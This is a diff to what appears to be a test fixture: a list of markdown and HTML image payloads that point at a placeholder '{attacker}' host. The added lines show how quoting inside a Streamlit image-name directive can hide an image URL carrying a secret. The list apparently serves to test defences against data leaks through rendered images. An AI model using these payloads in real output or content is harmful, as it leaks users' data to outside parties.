@@ -48,6 +48,10 @@ LEAKS = [
     "> ![quoted]({attacker}/quoted)\n\n* ![listed]({attacker}/listed)",
     "| a |\n|---|\n| ![cell]({attacker}/cell) |",
     "![split\nover lines]({attacker}/lines 'title')",
+    # To Streamlit, what is in quotes here belongs to a directive within the image's name.
+    """![x:a{b="](data:image/png;base64,AAAA)"}]({attacker}/named?secret)""",
+    """![x:a{b='](data:image/png;base64,AAAA)'}]({attacker}/named2)""",
+    """![x:a{b="](data:image/png;base64,AAAA)"}][further]\n\n[further]: {attacker}/named3""",
     "<picture><source srcset={attacker}/srcset><img></picture>",
 ]
 
